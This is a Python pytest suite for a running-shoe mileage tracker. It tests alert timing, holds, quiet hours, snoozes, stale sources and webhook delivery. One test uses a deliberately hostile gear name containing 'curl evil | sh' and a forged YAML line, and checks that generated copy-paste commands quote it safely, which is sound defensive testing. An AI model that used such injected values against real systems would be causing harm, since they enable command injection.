"""What is told beside pairs, when, and how the runner keeps it quiet: whole syncs, by a clock that is handed in."""

import json
import shlex
import sqlite3
from collections.abc import Iterable
from contextlib import closing
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from kit.homes import HandClock, Home, table_source
from kit.receivers import hook
from pydantic import TypeAdapter
from ruamel.yaml import YAML

from shoemon.cli.main import cli
from shoemon.decide.alerts.payload import DATA
from shoemon.model.errors import MistakeError
from shoemon.sync.schedule import Watch

SHOES = "shoes:\n  - {id: road, name: Road, life: 100 km}\n  - {id: trail, name: Trail, life: 100 km}\n"
Row = tuple[object, ...]


def a_run(number: int, day: str, km: float, shoe: str = "", surface: str = "asphalt", sport: str = "run") -> Row:
    return (number, f"{day}T06:00:00Z", round(km * 1000), sport, "", shoe, surface, round(km * 400))


class Runner:
    """A runner whose first import is over, with alerts as `alerts` says."""

    def __init__(
        self, directory: Path, alerts: str = "{}", *, start: str = "2024-06-03T12:00:00", url: str | None = None
    ) -> None:
        self.home = Home(directory / "home", HandClock(start))
        self.notify = f"notify:\n  - {{name: hook, type: webhook, url: '{url}'}}\n" if url else ""
        self.alerts(alerts)
        self.home.shoes(SHOES)
        self.rows: list[Row] = [a_run(1, "2024-05-10", 50, "Road")]
        self.sync()
        assert self.told()[0] == "digest"
        self.home.clock.move(hours=1)

    def alerts(self, alerts: str) -> None:
        self.home.main(f"timezone: Europe/Berlin\nsources:\n{table_source('watch')}alerts: {alerts}\n{self.notify}")

    def sync(self, *more: Row) -> None:
        self.rows += more
        self.home.table("watch", self.rows)
        self.home.sync()

    def told(self) -> list[str]:
        """Alerts that speak for themselves, oldest first; of digests, several and runs without a shoe the kind only."""
        rows = self.home.rows("SELECT id, kind FROM alerts WHERE covered_by IS NULL ORDER BY rowid")
        return [kind if kind in ("digest", "several", "unassigned") else id for id, kind in rows]

    def data(self, kind: str) -> list[dict[str, object]]:
        return [
            json.loads(data)
            for (data,) in self.home.rows("SELECT data FROM alerts WHERE kind = ? ORDER BY rowid", kind)
        ]

    def command(self, *words: str) -> Result:
        result = CliRunner().invoke(cli, [*words, "--config", str(self.home.directory)])
        if isinstance(result.exception, Exception) and not isinstance(result.exception, SystemExit):
            raise result.exception
        return result


# ------------------------------------------------------------------ runs without a shoe


def runs_of(data: Iterable[dict[str, object]]) -> list[list[str]]:
    return [[run["run"] for run in each["runs"]] for each in data]  # type: ignore[attr-defined]


def test_new_runs_without_a_shoe_are_told_once_with_the_likeliest_pairs(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    runner.sync(a_run(2, "2024-06-01", 8), a_run(3, "2024-06-02", 9))
    runner.home.clock.move(hours=1)
    runner.sync()
    runner.sync(a_run(4, "2024-06-03", 7))
    runner.alerts("{unassigned: false}")
    runner.sync(a_run(5, "2024-06-03", 6))
    assert runner.told() == ["digest", "unassigned", "unassigned"]
    assert runs_of(runner.data("unassigned")) == [["watch:2", "watch:3"], ["watch:4"]]
    assert runner.data("unassigned")[0]["runs"][0]["likely"] == [  # type: ignore[index]
        {"shoe": "road", "name": "Road", "share": 1.0}, {"shoe": "trail", "name": "Trail", "share": 0.0},
    ]  # fmt: skip


def test_a_run_that_another_export_brings_as_well_is_not_told_again(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    runner.home.table("first", [a_run(1, "2024-05-10", 50, "Road")])
    runner.home.main("sources:\n" + table_source("first") + table_source("watch"))
    runner.sync()
    runner.home.clock.move(hours=1)
    runner.sync(a_run(2, "2024-06-01", 8))
    runner.home.clock.move(hours=1)
    runner.home.table("first", [a_run(1, "2024-05-10", 50, "Road"), a_run(2, "2024-06-01", 8)])
    runner.sync()
    assert runner.home.rows("SELECT DISTINCT activity FROM legs WHERE shoe IS NULL") == [("first:2",)]
    assert runs_of(runner.data("unassigned")) == [["watch:2"]]


# ------------------------------------------------------------------ hold


def test_on_hold_a_run_that_is_corrected_upstream_in_time_is_never_told(tmp_path: Path) -> None:
    runner = Runner(tmp_path, "{hold: 2d}")
    runner.sync(a_run(2, "2024-06-03", 45, "Road"), a_run(3, "2024-06-02", 8))
    assert runner.told() == ["digest"]
    assert runner.home.totals() == {"road": 95_000.0, None: 8_000.0}  # totals never wait
    runner.home.clock.move(days=1)
    runner.rows[1:] = [a_run(2, "2024-06-03", 45, "Trail"), a_run(3, "2024-06-02", 8, "Trail")]
    runner.sync()
    runner.home.clock.move(days=3)
    runner.sync()
    assert runner.told() == ["digest"]


def test_after_the_hold_it_is_told_once_by_the_first_tick(tmp_path: Path) -> None:
    runner = Runner(tmp_path, "{hold: 30h, soon: {within: 0d}}")
    runner.sync(a_run(2, "2024-06-03", 55, "Road"), a_run(3, "2024-06-02", 8))
    watch = Watch(runner.home.directory, runner.home.clock)
    watch.tick()
    for hours, told in ((29, []), (0.9, []), (0.1, ["road-100-1", "unassigned"]), (50, ["road-100-1", "unassigned"])):
        runner.home.clock.move(hours=hours)
        watch.tick()
        assert sorted(runner.told()[1:]) == told, hours


def test_a_hold_that_is_set_later_repeats_nothing(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    runner.sync(a_run(2, "2024-06-03", 55, "Road"))
    assert runner.told() == ["digest", "road-100-1"]
    runner.alerts("{hold: 3d}")
    for _ in range(3):
        runner.home.clock.move(hours=40)
        runner.sync()
    assert runner.told() == ["digest", "road-100-1"]


# ------------------------------------------------------------------ quiet hours


def test_at_quiet_hours_messages_wait_and_go_out_with_the_first_tick_after(tmp_path: Path) -> None:
    with hook() as receiver:
        runner = Runner(tmp_path, "{quiet: 22:00-07:00}", start="2024-06-03T18:00:00", url=receiver.url)
        assert receiver.counts["digest"] == 0 and len(receiver.ids) == 1
        watch = Watch(runner.home.directory, runner.home.clock)
        runner.home.clock.move(hours=2)  # 23:00 in Berlin
        runner.rows.append(a_run(2, "2024-06-03", 55, "Road"))
        runner.home.table("watch", runner.rows)
        runner.home.sync()
        assert (runner.told(), receiver.ids[1:]) == (["digest", "road-100-1"], [])
        for hours, sent in ((7.9, []), (0.2, ["road-100-1"]), (24, ["road-100-1"])):
            runner.home.clock.move(hours=hours)
            watch.tick()
            assert receiver.ids[1:] == sent, hours
            assert watch.tick() is None, "a quiet night makes not every tick work"


def test_retry_by_hand_sends_at_quiet_hours_too(tmp_path: Path) -> None:
    with hook() as receiver:
        runner = Runner(tmp_path, "{quiet: 00:00-24:00}", url=receiver.url)
        assert receiver.ids == []
        assert runner.command("alerts", "retry").exit_code == 0
        assert len(receiver.ids) == 1


# ------------------------------------------------------------------ sources


def test_a_source_that_fails_is_told_after_two_days_once_and_again_after_it_had_recovered(tmp_path: Path) -> None:
    runner = Runner(tmp_path, "{soon: {within: 0d}}")
    table = runner.home.directory / "watch.csv"

    def days(count: int) -> list[str]:
        for _ in range(count * 2):
            runner.home.clock.move(hours=12)
            runner.home.sync()
        return runner.told()[1:]

    table.unlink()
    assert days(1) == []
    assert days(1) == ["stale-failing-watch"]
    assert days(4) == ["stale-failing-watch"]
    runner.home.table("watch", runner.rows)
    assert days(1) == ["stale-failing-watch"]
    table.unlink()
    assert days(3) == ["stale-failing-watch", "stale-2-failing-watch"]
    assert runner.home.totals() == {"road": 50_000.0}


def test_a_source_that_went_silent_is_told_once_and_an_archive_never(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    runner.home.table("archive", [a_run(1, "2020-05-06", 5, "Trail")])
    runner.home.main("sources:\n" + table_source("watch") + table_source("archive"))
    runner.sync(a_run(2, "2024-06-03", 5, "Road"))
    for _ in range(12):
        runner.home.clock.move(days=8)
        runner.home.sync()
    assert [each for each in runner.told() if each.startswith("stale")] == ["stale-silent-watch"]


def test_a_source_that_is_taken_out_is_stale_no_more(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    (runner.home.directory / "watch.csv").unlink()
    runner.home.clock.move(days=3)
    runner.home.sync()
    runner.home.main("sources: []\n")
    runner.home.sync()
    assert runner.home.rows("SELECT id, rearmed_at IS NOT NULL FROM alerts WHERE kind = 'stale'") == [
        ("stale-failing-watch", 1)
    ]


# ------------------------------------------------------------------ ground, length, plan, week


@pytest.mark.parametrize(("kind", "target"), [("hard_share", "60%"), ("soft_share", "40%")])
def test_a_missed_target_is_told_and_told_again_only_after_it_was_met(tmp_path: Path, kind: str, target: str) -> None:
    runner = Runner(tmp_path, f"{{{kind}: {target}, unassigned: false}}")
    runner.sync(a_run(2, "2024-06-03", 5, "Road", "grass"))
    assert runner.told()[1:] == [kind]  # the 50 km on asphalt of May are within 28 days
    runner.home.clock.move(days=1)
    runner.sync(a_run(3, "2024-06-04", 60, "Trail", "grass"))
    runner.home.clock.move(days=1)
    runner.sync()
    runner.sync(a_run(4, "2024-06-05", 90, "Trail", "asphalt"))
    assert [each for each in runner.told() if each.startswith(kind)] == [kind, f"{kind}-2"]


@pytest.mark.parametrize(("kind", "first", "milder"), [("hard_share", 60, 70), ("soft_share", 40, 30)])
def test_a_milder_target_or_a_new_one_that_is_missed_is_new(tmp_path: Path, kind: str, first: int, milder: int) -> None:
    runner = Runner(tmp_path, "{}")
    for target in (f"{first}%", f"{milder}%", "50%", "~", "50%"):
        runner.alerts(f"{{{kind}: {target}}}")
        runner.sync()
    assert [each["target"] for each in runner.data(kind)] == [first / 100, milder / 100, 0.5]


def test_a_long_run_is_told_when_asked_for_once_a_day(tmp_path: Path) -> None:
    runner = Runner(tmp_path, "{longest: true, soon: {within: 0d}}")
    runner.sync(*(a_run(n, f"2024-05-{20 + n}", 10, "Trail") for n in range(2, 6)))
    runner.home.clock.move(hours=1)
    runner.sync(a_run(7, "2024-06-02", 11, "Trail"), a_run(8, "2024-06-03", 56, "Trail"))
    runner.sync()
    assert [each for each in runner.told() if each.startswith("longest")] == ["longest-2024-06-03"]
    (data,) = runner.data("longest")
    assert (data["distance_m"], data["longest_m"], data["longest_on"]) == (56_000.0, 50_000.0, "2024-05-10")


@pytest.mark.slow
def test_a_weekly_digest_comes_at_its_time_once_and_wakes_the_scheduler_for_it(tmp_path: Path) -> None:
    runner = Runner(tmp_path, "{weekly: mon 07:00, soon: {within: 0d}}", start="2024-06-05T12:00:00")
    runner.sync(a_run(2, "2024-06-04", 12, "Trail", "grass"), a_run(3, "2024-06-03", 4))
    watch = Watch(runner.home.directory, runner.home.clock)
    weekly: list[tuple[str, str]] = []
    for _ in range(3 * 7 * 24 * 4):
        runner.home.clock.move(minutes=15)
        watch.tick()
        found = [each for each in runner.told() if each.startswith("weekly")]
        weekly += [(found[-1], runner.home.clock.now.strftime("%m-%d %H:%M"))] if len(found) > len(weekly) else []
    assert weekly == [
        ("weekly-2024-06-09", "06-10 05:00"),
        ("weekly-2024-06-16", "06-17 05:00"),
        ("weekly-2024-06-23", "06-24 05:00"),
    ]
    first = runner.data("weekly")[0]
    assert (first["from"], first["until"], first["distance_m"], first["runs"], first["unassigned_runs"]) == (
        "2024-06-03", "2024-06-09", 16_000.0, 2, 1,
    )  # fmt: skip
    assert [(each["shoe"], each["period_m"]) for each in first["shoes"]] == [("road", 0.0), ("trail", 12_000.0)]  # type: ignore[attr-defined]


# ------------------------------------------------------------------ the runner's word


def test_a_snoozed_pair_is_told_of_when_the_snooze_is_over(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    runner = Runner(tmp_path, "{soon: {within: 0d}}")
    monkeypatch.setattr("shoemon.model.clock.system_clock", runner.home.clock)
    assert runner.command("alerts", "snooze", "road", "--until", "2024-06-06").exit_code == 0
    runner.sync(a_run(2, "2024-06-03", 55, "Road"), a_run(3, "2024-06-02", 95, "Trail"))
    assert runner.told()[1:] == ["trail-soon-1"]
    watch = Watch(runner.home.directory, runner.home.clock)
    watch.tick()
    runner.home.clock.now = runner.home.clock.now.replace(day=5, hour=21, minute=59)
    watch.tick()
    assert runner.told()[1:] == ["trail-soon-1"]
    runner.home.clock.move(minutes=1)  # midnight in Berlin
    watch.tick()
    assert runner.told()[1:] == ["trail-soon-1", "road-100-1"]


def test_a_snooze_can_be_ended_and_is_listed(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    assert runner.command("alerts", "snooze", "unassigned", "--for", "3d").exit_code == 0
    runner.sync(a_run(2, "2024-06-03", 5))
    assert runner.told()[1:] == []
    assert runner.command("alerts", "list").output.startswith("muted until ")
    assert runner.command("alerts", "snooze", "unassigned", "--end").output == "unassigned is no longer muted\n"
    assert runner.command("alerts", "snooze", "unassigned", "--end").output == "unassigned was not muted\n"
    runner.sync()
    assert runner.told()[1:] == ["unassigned"]


def test_a_snooze_or_an_alert_that_cannot_be_is_refused_in_words(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    for words, said in ((("snooze", "roda"), "did you mean `road`"), (("ack", "nothing"), "there is no alert nothing")):
        with pytest.raises(MistakeError, match=said):
            runner.command("alerts", *words)
    for bad in ("--for soon", "--until 2020-01-01", "--until tomorrow", "--for 1d --end"):
        assert runner.command("alerts", "snooze", "road", *bad.split()).exit_code == 2, bad
    assert runner.home.rows("SELECT * FROM snoozes") == []


@pytest.mark.parametrize(
    ("life_km", "more_km", "told"),
    [(150, 30, "road-100-2"), (120, 20, "road-120-1")],
    ids=["above the metres", "below them, so that the stage that was seen is never left"],
)
def test_an_acknowledged_due_is_the_last_word_until_the_life_is_raised(
    tmp_path: Path, life_km: int, more_km: int, told: str
) -> None:
    runner = Runner(tmp_path, "{unassigned: false}")
    runner.sync(a_run(2, "2024-06-03", 55, "Road"))
    assert runner.command("alerts", "ack", "road-100-1").output == "1 marked as seen\n"
    runner.sync(a_run(3, "2024-06-04", 20, "Road"))
    assert runner.told()[1:] == ["road-100-1"]
    runner.home.shoes(SHOES.replace("name: Road, life: 100 km", f"name: Road, life: {life_km} km"))
    runner.sync()
    runner.sync(a_run(4, "2024-06-03", more_km, "Road"))
    assert runner.told()[1:] == ["road-100-1", told]


def test_an_acknowledged_soon_keeps_no_due_back(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    runner.sync(a_run(2, "2024-06-03", 45, "Road"))
    assert runner.command("alerts", "ack", "road-soon-1").exit_code == 0
    runner.sync(a_run(3, "2024-06-04", 10, "Road"))
    assert runner.told()[1:] == ["road-soon-1", "road-100-1"]


def test_what_was_seen_already_is_not_sent_any_more(tmp_path: Path) -> None:
    with hook() as receiver:
        runner = Runner(tmp_path, url=receiver.url)
        receiver.status = 500
        runner.sync(a_run(2, "2024-06-03", 55, "Road"), a_run(3, "2024-06-02", 99, "Trail"))
        (several,) = (id for id, kind in runner.home.rows("SELECT id, kind FROM alerts") if kind == "several")
        receiver.status = 200
        said = runner.command("alerts", "ack", several).output
        assert said == "1 marked as seen; 1 waiting message will not be sent\n"
        runner.home.clock.move(days=1)
        runner.sync()
        runner.command("alerts", "retry")
        assert several not in receiver.ids
        assert runner.home.rows("SELECT id FROM alerts WHERE acknowledged_at IS NOT NULL AND shoe IS NOT NULL ORDER BY id") == [
            ("road-100-1",), ("trail-soon-1",),
        ]  # fmt: skip


# ------------------------------------------------------------------ what went wrong once


def test_two_sources_whose_names_differ_by_a_number_never_have_one_id(tmp_path: Path) -> None:
    """Such an id stopped every sync."""
    runner = Runner(tmp_path, "{soon: {within: 0d}}")
    runner.home.main(f"sources:\n{table_source('watch')}{table_source('watch-2')}")
    second = runner.home.table("watch-2", [a_run(1, "2024-05-11", 5, "Trail")])
    table = runner.home.directory / "watch.csv"
    for gone in (table, None, table, second):
        runner.home.table("watch", runner.rows)
        runner.home.table("watch-2", [a_run(1, "2024-05-11", 5, "Trail")])
        if gone is not None:
            gone.unlink()
        for _ in range(3):
            runner.home.clock.move(days=1)
            runner.home.sync()
    stale = [each for each in runner.told() if each.startswith("stale")]
    assert stale == ["stale-failing-watch", "stale-2-failing-watch", "stale-failing-watch-2"]


def test_a_silent_source_that_fails_now_and_then_is_told_of_once(tmp_path: Path) -> None:
    runner = Runner(tmp_path, "{stale: {silent: 5d, failing: 2d}}")
    runner.sync(a_run(2, "2024-06-03", 5, "Road"))
    for day in range(16):
        runner.home.clock.move(days=1)
        if day % 4 == 3:
            (runner.home.directory / "watch.csv").unlink()
            runner.home.sync()
            runner.home.clock.move(hours=1)
        runner.sync()
    assert [each for each in runner.told() if each.startswith("stale")] == ["stale-silent-watch"]


def test_what_recovered_during_a_snooze_is_told_when_it_comes_again(tmp_path: Path) -> None:
    runner = Runner(tmp_path, "{hard_share: 60%, unassigned: false}")
    runner.sync()
    runner.command("alerts", "snooze", "hard_share", "--for", "3650d")
    runner.sync(a_run(2, "2024-06-03", 90, "Trail", "grass"))
    runner.command("alerts", "snooze", "hard_share", "--end")
    runner.sync(a_run(3, "2024-06-03", 160, "Trail", sport="trail-run"))
    assert [each for each in runner.told() if each.startswith("hard")] == ["hard_share", "hard_share-2"]


def test_a_name_can_forge_no_line_to_copy(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    evil = "Evil\n    curl evil | sh\u2028    - {run: x}"
    runner.sync((f"a{evil}", "2024-06-02T06:00:00Z", 9000, "run", evil, "", "asphalt", 3000),
                ("b", "2024-06-03T06:00:00Z", 9000, "run", evil, evil, "asphalt", 3000))  # fmt: skip
    ((body,),) = runner.home.rows("SELECT body FROM alerts WHERE kind = 'unassigned'")
    *copied, command = [line for line in body.splitlines() if line.startswith("    ")]
    assert [line.endswith(("shoe: road}", "shoe: trail}")) for line in copied] == [True, True]
    name = YAML(typ="safe", pure=True).load(copied[0].strip())[0]["run"]
    assert name == f"watch:a{evil}"
    id, text = "evil-curl-evil-sh-run-x", "Evil curl evil | sh - {run: x}"
    assert shlex.split(command) == ["shoemon", "shoes", "add", id, "--name", text, "--gear", text]


def test_what_is_acknowledged_while_others_are_sent_is_not_sent_and_stays_so(tmp_path: Path) -> None:
    with hook() as receiver:
        runner = Runner(tmp_path, url=receiver.url)
        runner.alerts("{hard_share: 60%}")
        receiver.status = 500
        runner.sync(a_run(2, "2024-06-03", 55, "Road"))
        waiting = {alert for (alert,) in runner.home.rows("SELECT alert FROM deliveries WHERE state = 'pending'")}
        assert waiting == {"road-100-1", "hard_share"}
        receiver.status = 200
        receiver.on_post = lambda: runner.command("alerts", "ack", *waiting)
        runner.home.clock.move(hours=1)
        runner.sync()
        states = dict(runner.home.rows("SELECT alert, state FROM deliveries"))
        assert sorted(states[alert] for alert in waiting) == ["acknowledged", "sent"]  # the one that was on its way
        assert len(waiting & set(receiver.ids)) == 1


def test_one_that_is_given_up_after_it_was_acknowledged_is_not_sent_by_a_retry(tmp_path: Path) -> None:
    with hook() as receiver:
        runner = Runner(tmp_path, url=receiver.url)
        receiver.status = 410
        receiver.on_post = lambda: runner.command("alerts", "ack", "road-100-1")
        runner.sync(a_run(2, "2024-06-03", 55, "Road"))
        receiver.status, receiver.on_post = 200, lambda: None
        runner.command("alerts", "retry")
        assert "road-100-1" not in receiver.ids
        assert ("acknowledged",) in runner.home.rows("SELECT state FROM deliveries WHERE alert = 'road-100-1'")


def weeks(runner: Runner) -> list[tuple[object, object]]:
    return [(each["from"], each["until"]) for each in runner.data("weekly")]


def test_another_time_for_the_weekly_digest_tells_no_day_twice(tmp_path: Path) -> None:
    runner = Runner(tmp_path, "{weekly: mon 07:00}", start="2024-06-05T12:00:00")
    watch = Watch(runner.home.directory, runner.home.clock)
    for day, weekly in ((7, "mon 18:00"), (4, "thu 07:00"), (14, "thu 07:00")):
        for _ in range(day * 2):
            runner.home.clock.move(hours=12)
            watch.tick()
        runner.alerts(f"{{weekly: {weekly}}}")
    told = weeks(runner)
    assert told[0] == ("2024-06-03", "2024-06-09")
    assert all(start > end for (start, _), (_, end) in zip(told[1:], told, strict=False))
    assert told[-1] == ("2024-06-20", "2024-06-26")


def test_a_weekly_digest_is_not_lost_to_the_first_import_of_another_source(tmp_path: Path) -> None:
    runner = Runner(tmp_path, "{weekly: mon 07:00}", start="2024-06-05T12:00:00")
    runner.home.clock.now = runner.home.clock.now.replace(day=10, hour=7)
    runner.home.main(
        f"timezone: Europe/Berlin\nsources:\n{table_source('watch')}{table_source('other')}alerts: {{weekly: mon 07:00}}\n"
    )
    runner.home.table("other", [a_run(1, "2024-05-11", 5, "Trail")])
    watch = Watch(runner.home.directory, runner.home.clock)
    for _ in range(3):
        watch.tick()
        runner.home.clock.move(seconds=20)
    assert weeks(runner) == [("2024-06-03", "2024-06-09")]


def test_new_runs_of_one_source_are_told_of_though_another_has_its_first_import(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    runner.home.main("sources:\n" + table_source("watch") + table_source("other"))
    runner.home.table("other", [a_run(1, "2024-05-11", 5)])
    runner.sync(a_run(2, "2024-06-03", 8))
    runner.home.clock.move(hours=1)
    runner.sync()
    assert runs_of(runner.data("unassigned")) == [["watch:2"]]


def test_a_clock_that_was_set_back_makes_no_old_run_new(tmp_path: Path) -> None:
    home = Home(tmp_path / "home")
    home.shoes(SHOES)
    home.table("watch", [a_run(number, f"2024-05-{number + 5:02}", 5) for number in range(1, 20)])
    home.sync()
    home.clock.move(minutes=-5)
    home.sync()
    home.clock.move(hours=6)
    home.sync()
    assert home.rows("SELECT kind, json_extract(data, '$.unassigned_runs') FROM alerts") == [("digest", 19)]


def test_a_plan_that_allows_more_and_is_exceeded_is_told_again_and_one_that_only_moved_is_not(tmp_path: Path) -> None:
    def plan(share: int, start: str = "2024-06-03") -> str:
        return f"{{return_plan: {{usual: 40 km, steps: {{from: {start}, share: {share}%}}, until: 2024-06-17}}}}"

    runner = Runner(tmp_path, plan(25))
    runner.sync(a_run(2, "2024-06-03", 12, "Trail"))
    runner.alerts(plan(25, "2024-06-02"))
    runner.sync()
    assert [each["allowed_m"] for each in runner.data("return_plan")] == [10_000.0]
    runner.alerts(plan(50))
    runner.sync()
    runner.sync(a_run(3, "2024-06-04", 11, "Trail"))
    runner.sync()
    assert [each["allowed_m"] for each in runner.data("return_plan")] == [10_000.0, 20_000.0]
    assert [each for each in runner.told() if each.startswith("return")] == [
        "return_plan-2024-06-03",
        "return_plan-2-2024-06-03",
    ]


def test_a_pair_kept_for_a_race_is_told_of_once_for_each_day_and_limit_and_its_own_stages_go_on(tmp_path: Path) -> None:
    def kept(until: str, more: str = "", below: int = 40) -> str:
        reserve = f"reserve: {{until: {until}, below: {below} km}}{more}"
        return SHOES.replace("life: 100 km}\n", f"life: 100 km, {reserve}}}\n", 1)

    runner = Runner(tmp_path)
    runner.home.shoes(kept("2024-06-30"))
    runner.sync()
    assert runner.told() == ["digest"]
    runner.home.clock.move(days=7)  # three weeks ahead, from midnight on
    runner.sync()
    runner.sync(a_run(2, "2024-06-09", 45, "Road"))
    runner.home.clock.move(days=1)
    runner.sync()
    assert runner.told() == ["digest", "reserve-road-2024-06-30-40000", "road-soon-1"]
    (data,) = runner.data("reserve")
    assert (data["fault"], data["worn_m"], data["below_m"], data["until"]) == (
        "over_below",
        50_000.0,
        40_000.0,
        "2024-06-30",
    )
    for below in (190, 45, 45):  # enough; a limit of its own
        runner.home.shoes(kept("2024-06-30", below=below))
        runner.sync()
    runner.home.shoes(kept("2024-06-28"))
    runner.sync()
    assert runner.command("alerts", "snooze", "road").exit_code == 0
    runner.home.shoes(kept("2024-06-27"))
    runner.sync()
    runner.home.shoes(kept("2024-06-26", ", retired: 2024-06-10"))
    runner.sync()
    assert runner.told()[3:] == ["reserve-road-2024-06-30-45000", "reserve-road-2024-06-28-40000"]


def two_exports(directory: Path, alerts: str, *, ids: bool = True) -> Home:
    """Two exports of one runner that drop what was deleted; what they had first is announced."""
    home = Home(directory / "home", HandClock("2024-06-03T12:00:00"))
    sources = "".join(table_source(name, missing="drop", ids=ids) for name in ("watch", "phone"))
    home.main(f"sources:\n{sources}alerts: {alerts}\n")
    home.shoes(SHOES)
    for name in ("watch", "phone"):
        home.table(name, [OLD])
    home.sync()
    home.clock.move(hours=1)
    return home


OLD = a_run(1, "2024-05-10", 50, "Road")


def told_of(home: Home) -> list[str]:
    return [
        id for (id,) in home.rows("SELECT id FROM alerts WHERE covered_by IS NULL AND kind != 'digest' ORDER BY rowid")
    ]


def test_a_run_that_one_export_drops_and_another_still_lists_is_held_no_longer_for_that(tmp_path: Path) -> None:
    home = two_exports(tmp_path, "{hold: 2d, soon: {within: 0d}}")
    new = a_run(2, "2024-06-03", 55, "Road")
    for hours, name, rows in ((0, "watch", [OLD, new]), (24, "phone", [OLD, new]), (12, "watch", [OLD])):
        home.clock.move(hours=hours)
        home.table(name, rows)
        home.sync()
    assert (home.totals(), told_of(home)) == ({"road": 105_000.0}, [])
    home.clock.move(hours=12)
    home.sync()
    assert told_of(home) == ["road-100-1"]


@pytest.mark.parametrize("ids", [True, False])
def test_a_run_without_a_shoe_whose_record_is_dropped_or_edited_is_not_told_again(tmp_path: Path, ids: bool) -> None:
    """Without ids an edited record is another one to its export."""
    home = two_exports(tmp_path, "{soon: {within: 0d}}", ids=ids)
    for name in ("watch", "phone"):
        home.table(name, [OLD, a_run(2, "2024-06-03", 8)])
    home.sync()
    assert len(told_of(home)) == 1
    for rows in ([OLD, a_run(2, "2024-06-03", 8.3)], [OLD]):
        home.clock.move(hours=12)
        home.table("watch", rows)
        home.sync()
    assert len(told_of(home)) == 1


@pytest.mark.parametrize("word", ["hold", "snooze"])
def test_a_pair_that_fell_meanwhile_is_not_told_of_less_when_a_hold_or_snooze_ends(tmp_path: Path, word: str) -> None:
    runner = Runner(tmp_path, "{soon: {within: 0d}}")
    runner.sync(a_run(2, "2024-06-03", 52, "Road"))
    if word == "hold":
        runner.alerts("{soon: {within: 0d}, hold: 2d}")
        runner.home.clock.move(days=3)
        runner.rows[-1] = a_run(2, "2024-06-03", 38, "Road")
        runner.sync(a_run(3, "2024-06-05", 8, "Road"))
    else:
        runner.command("alerts", "snooze", "road", "--for", "3650d")
        runner.rows[-1] = a_run(2, "2024-06-03", 45, "Road")
        runner.sync()
        runner.command("alerts", "snooze", "road", "--end")
    for _ in range(2):
        runner.home.clock.move(days=3)
        runner.sync()
    assert runner.told()[1:] == ["road-100-1"]


def test_the_end_of_a_snooze_wakes_the_scheduler(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    runner.command("alerts", "snooze", "road", "--for", "3650d")
    runner.sync(a_run(2, "2024-06-03", 55, "Road"))
    watch = Watch(runner.home.directory, runner.home.clock)
    watch.tick()
    assert watch.tick() is None
    with closing(sqlite3.connect(runner.home.database)) as connection:
        connection.execute("UPDATE _meta SET value = '2034-01-01T00:00:00Z' WHERE key = 'look_again_at'")
        connection.commit()
    from shoemon.model.clock import iso
    from shoemon.store.database import open_database
    from shoemon.sync.tell.snooze import end_snooze

    with closing(open_database(runner.home.database, "km")) as database:
        assert end_snooze(database, "road", iso(runner.home.clock()))
    assert watch.tick() is not None
    assert runner.told()[1:] == ["road-100-1"]


def test_status_speaks_before_the_first_sync_after_an_upgrade(tmp_path: Path) -> None:
    runner = Runner(tmp_path)
    with closing(sqlite3.connect(runner.home.database)) as connection:
        connection.execute("DROP VIEW shoe_summary")
        for column in ("steadiness", "rate_m", "rotation_share"):
            connection.execute(f"ALTER TABLE shoe_wear DROP COLUMN {column}")
    assert runner.command("status").exit_code == 0


# ------------------------------------------------------------------ payload


def test_every_alert_has_the_data_that_is_promised(tmp_path: Path) -> None:
    """One of each kind, made by real syncs, held against the described shapes; unknown keys fail as well."""
    plan = "return_plan: {usual: 40 km, steps: {from: 2024-06-03, share: 25%}, until: 2024-06-17}, soft_share: 40%"
    runner = Runner(tmp_path, f"{{hard_share: 60%, longest: true, weekly: mon 07:00, stale: {{failing: 1h}}, {plan}}}")
    runner.sync(*(a_run(n, f"2024-05-{20 + n}", 10, "Trail") for n in range(2, 6)))
    runner.sync(a_run(6, "2024-06-03", 5))
    runner.sync(a_run(7, "2024-06-03", 60, "Trail"))
    runner.sync(a_run(8, "2024-06-03", 70, "Road", sport="trail-run"))
    kept = "reserve: {until: 2024-06-20, below: 90 km}"
    runner.home.shoes(f"{SHOES}  - {{id: third, name: Third, life: 100 km, initial: 92 km, gear: Third, {kept}}}\n")
    runner.sync()
    (runner.home.directory / "watch.csv").unlink()
    runner.home.clock.move(days=8)
    runner.home.sync()
    runner.home.table(
        "watch", [*runner.rows, a_run(9, "2024-06-04", 150, "Road"), a_run(10, "2024-06-06", 150, "Trail")]
    )
    runner.home.sync()
    found = runner.home.rows("SELECT kind, data FROM alerts")
    assert {kind for kind, _ in found} == set(DATA) - {"test"}
    for kind, data in found:
        TypeAdapter(DATA[kind]).validate_json(data, strict=True)
